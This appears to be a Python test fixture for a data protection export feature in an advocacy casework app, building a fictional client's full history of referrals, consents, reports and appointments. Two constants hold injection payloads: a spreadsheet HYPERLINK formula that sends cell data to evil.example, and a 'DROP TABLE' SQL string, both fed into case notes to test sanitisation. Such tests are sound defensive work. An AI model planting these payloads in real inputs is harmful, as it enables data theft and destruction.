"""People with a whole history behind them, for the data protection tests: referrals,
a case with its log (one entry edited), an issue, the outcome answers, a party and
consents (one with a scanned form, one withdrawn), a report sent twice, a letter, an
appointment, the case closed, and a citizen advocacy partnership that has ended."""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import date, datetime, time, timedelta

from advocacy_desk.app import Services
from advocacy_desk.domain.casework import ActivityDetails, Closure, Feedback
from advocacy_desk.domain.consent import ConsentDetails
from advocacy_desk.domain.diary import AppointmentDetails
from advocacy_desk.domain.people import PersonDetails
from advocacy_desk.domain.referrals import ReferralDetails
from advocacy_desk.domain.vocabulary import OUTCOME_QUESTION
from advocacy_desk.records.reports import ReportDetails
from tests.citizen_data import add_partner, add_volunteer
from tests.conftest import TODAY

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
SQL = "'; DROP TABLE person; --"
FIRST_NOTE = "Met Jane at home; she wants to stay near her sister"
EDITED_NOTE = "Met Jane at home with her sister present"
ISSUE = "Wants to move to a flat near her sister in Chelmsford"
DECLINED_REASON = "Jane's neighbour made the referral without asking her"
PARTY_NAME = "Samira Okonkwo-Reyes"
PARTY_ORGANISATION = "Chelmsford North Locality Team"
CONSENT_REASON = "Jane signed after her daughter read the leaflet to her"
WITHDRAWN_REASON = "Jane fell out with her social worker over the move"
SCAN_NAME = "Jane Partridge signed consent.pdf"
SCAN = b"%PDF-1.4\n% signed by Jane Partridge on the kitchen table\n%%EOF\n"
SCAN_MARK = b"signed by Jane Partridge on the kitchen table"
REPORT_ABOUT = "Whether Jane moves to Riverside Lodge"
DECISION_MAKER = "Dr Priya Raman, Broomfield Hospital"
WISHES = "Jane wants to stay within walking distance of her sister Maud"
CONCERNS = "The lodge has no ground-floor room free until spring"
RECOMMENDATION_SENT = "Consider a trial stay at Riverside Lodge before deciding"
RECOMMENDATION_NOW = "A trial stay of four weeks at Riverside Lodge, then a review"
LETTER_TEMPLATE = "introduction"
LETTER_REASON = "The social worker must know who the advocate is before the meeting"
PLACE = "Riverside Lodge, 14 Moulsham Street, Chelmsford"
ATTENDEES = "Maud Partridge (sister), Dr Priya Raman"
APPOINTMENT_NOTES = "Bring the large-print leaflet; Jane tires after an hour"
#: Every piece of free text the record holds about Jane outside the audit trail.
FREE_TEXT = (
    FIRST_NOTE, EDITED_NOTE, ISSUE, DECLINED_REASON, PARTY_NAME, PARTY_ORGANISATION,
    CONSENT_REASON, WITHDRAWN_REASON, SCAN_NAME, REPORT_ABOUT, DECISION_MAKER, WISHES,
    CONCERNS, RECOMMENDATION_SENT, RECOMMENDATION_NOW, LETTER_REASON, PLACE, ATTENDEES,
    APPOINTMENT_NOTES, "Partridge", "Someone who likes dogs", "Uses a hearing loop",
    "DROP TABLE person", "12 Mill Lane", "Great Baddow",
)  # fmt: skip


@dataclass(frozen=True)
class Record:
    person_id: int
    person_ref: str
    case_id: int
    activity_id: int
    party_id: int
    report_id: int
    letter_file_name: str


def advocate(services: Services, kind: str = "care_act") -> int:
    staff = {s.username: s for s in services.staff.list()}
    dee = staff.get("dee") or services.staff.add("dee", "Dee Okafor", advocacy_types=[kind])
    if kind not in dee.advocacy_types:
        services.staff.set_caseload(dee.id, dee.capacity, [*dee.advocacy_types, kind])
    return dee.id


def closed_case(
    services: Services,
    person_id: int,
    opened: date,
    closed: date,
    note: str = "visited at home",
    kind: str = "care_act",
    notes: str = "",
) -> int:
    """A referral for the person, allocated on ``opened`` and closed on ``closed``, with
    one visit logged; returns the case id."""
    referral = services.referrals.create(
        person_id, ReferralDetails(opened - timedelta(days=3), "self", kind, notes=notes)
    )
    ref = services.waiting_list.allocate(referral.id, advocate(services, kind), on=opened)
    case_id = next(r.case_id for r in services.casework.caseload() if r.case_ref == ref)
    services.casework.log_activity(case_id, ActivityDetails(opened, "visit", 60, 15, note))
    answers = dict.fromkeys(OUTCOME_QUESTION.codes, "yes")
    services.casework.close(case_id, Closure("resolved", closed, Feedback(answers)))
    return case_id


def person(services: Services, given: str = "Jane", family: str = "Partridge",
           born: date | None = date(1958, 5, 5), postcode: str = "CM2 0AA") -> int:  # fmt: skip
    details = PersonDetails(given, family, born, sex="female", ethnicity="white_british",
                            first_language="Welsh", communication_needs="Uses a hearing loop",
                            postcode=postcode, local_authority="Essex County Council")  # fmt: skip
    return services.people.create(details, allow_duplicate=True).id


def full_record(services: Services) -> Record:
    """Jane Partridge, P000001: everything a subject access export has to show."""
    add_volunteer(services, "V000001", given_name="Vera", family_name="Volunteer")
    person_id = add_partner(services, "Jane", other_requirement="Someone who likes dogs")
    services.people.update(
        person_id,
        PersonDetails("Jane", "Partridge", date(1958, 5, 5), sex="female",
                      ethnicity="white_british", first_language="Welsh",
                      communication_needs="Uses a hearing loop", postcode="CM2 0AA",
                      local_authority="Essex County Council", address_line_one="12 Mill Lane",
                      address_line_two="Great Baddow", town="Chelmsford"),
    )  # fmt: skip
    partnership = services.citizen.accept("V000001", "P000001")
    services.citizen.end(partnership, "moved")
    declined = services.referrals.create(
        person_id, ReferralDetails(TODAY - timedelta(days=200), "other", "nhs_complaints")
    )
    services.waiting_list.decline(declined.id, DECLINED_REASON, on=TODAY - timedelta(days=190))
    opened = TODAY - timedelta(days=60)
    referral = services.referrals.create(
        person_id,
        ReferralDetails(opened - timedelta(days=5), "self", "care_act",
                        notes=f"Referral notes. {FORMULA} {SQL}"),
    )  # fmt: skip
    ref = services.waiting_list.allocate(referral.id, advocate(services), on=opened)
    case_id = next(r.case_id for r in services.casework.caseload() if r.case_ref == ref)
    logged = services.casework.log_activity(
        case_id, ActivityDetails(opened + timedelta(days=2), "visit", 60, 20, FIRST_NOTE)
    )
    services.casework.edit_activity(
        logged.id, ActivityDetails(opened + timedelta(days=2), "visit", 75, 20, EDITED_NOTE)
    )
    services.casework.log_activity(
        case_id, ActivityDetails(opened + timedelta(days=9), "phone", 15, 0, f"{FORMULA}\n{SQL}")
    )
    issue = services.casework.add_issue(case_id, "accommodation", ISSUE)
    services.casework.set_outcome(issue.id, "achieved", opened + timedelta(days=20))
    party_id, report_id, letter_file_name = _papers(services, person_id, case_id, opened)
    answers = dict.fromkeys(OUTCOME_QUESTION.codes, "yes")
    services.casework.close(case_id, Closure("resolved", opened + timedelta(days=30),
                                             Feedback(answers)))  # fmt: skip
    services.people.get(person_id)  # a look, for the audit trail
    services.casework.case(case_id)
    return Record(person_id, "P000001", case_id, logged.id, party_id, report_id,
                  letter_file_name)  # fmt: skip


def _papers(services: Services, person_id: int, case_id: int, opened: date
            ) -> tuple[int, int, str]:  # fmt: skip
    """Jane's social worker (a party), her consents (to advocacy, on a scanned form; to
    share with the social worker, withdrawn), a report sent to the social worker and,
    changed, to the decision maker, a letter to the social worker without consent and a
    best interests meeting in the diary; (party id, report id, letter's file name)."""
    party = services.consent.add_party(person_id, PARTY_NAME, "social_worker",
                                       PARTY_ORGANISATION)  # fmt: skip
    services.consent.record(person_id, ConsentDetails(
        "advocacy", opened - timedelta(days=1), "signed_form", reason=CONSENT_REASON,
        attachment=(SCAN_NAME, SCAN)))  # fmt: skip
    sharing = services.consent.record(person_id, ConsentDetails(
        "sharing", opened + timedelta(days=1), "verbal", party_id=party.id))  # fmt: skip
    details = ReportDetails("care_act", REPORT_ABOUT, DECISION_MAKER, opened + timedelta(days=21),
                            wishes_feelings=WISHES, concerns=CONCERNS,
                            recommendations=RECOMMENDATION_SENT)  # fmt: skip
    report = services.reports.create(case_id, details)
    services.reports.mark_sent(report.id, opened + timedelta(days=15), "", party_id=party.id)
    services.reports.update(report.id, replace(details, recommendations=RECOMMENDATION_NOW))
    services.reports.mark_sent(
        report.id,
        opened + timedelta(days=22),
        DECISION_MAKER,
        no_consent_reason="Requested by the decision maker",
    )
    services.consent.withdraw(sharing.id, opened + timedelta(days=25), WITHDRAWN_REASON)
    letter = services.letters.make(LETTER_TEMPLATE, case_id, party.id, LETTER_REASON)
    day = opened + timedelta(days=12)
    services.diary.add(AppointmentDetails(
        case_id, "best_interests_meeting", datetime.combine(day, time(10, 0)),
        datetime.combine(day, time(11, 30)), PLACE, ATTENDEES, APPOINTMENT_NOTES))  # fmt: skip
    return party.id, report.id, letter.file_name
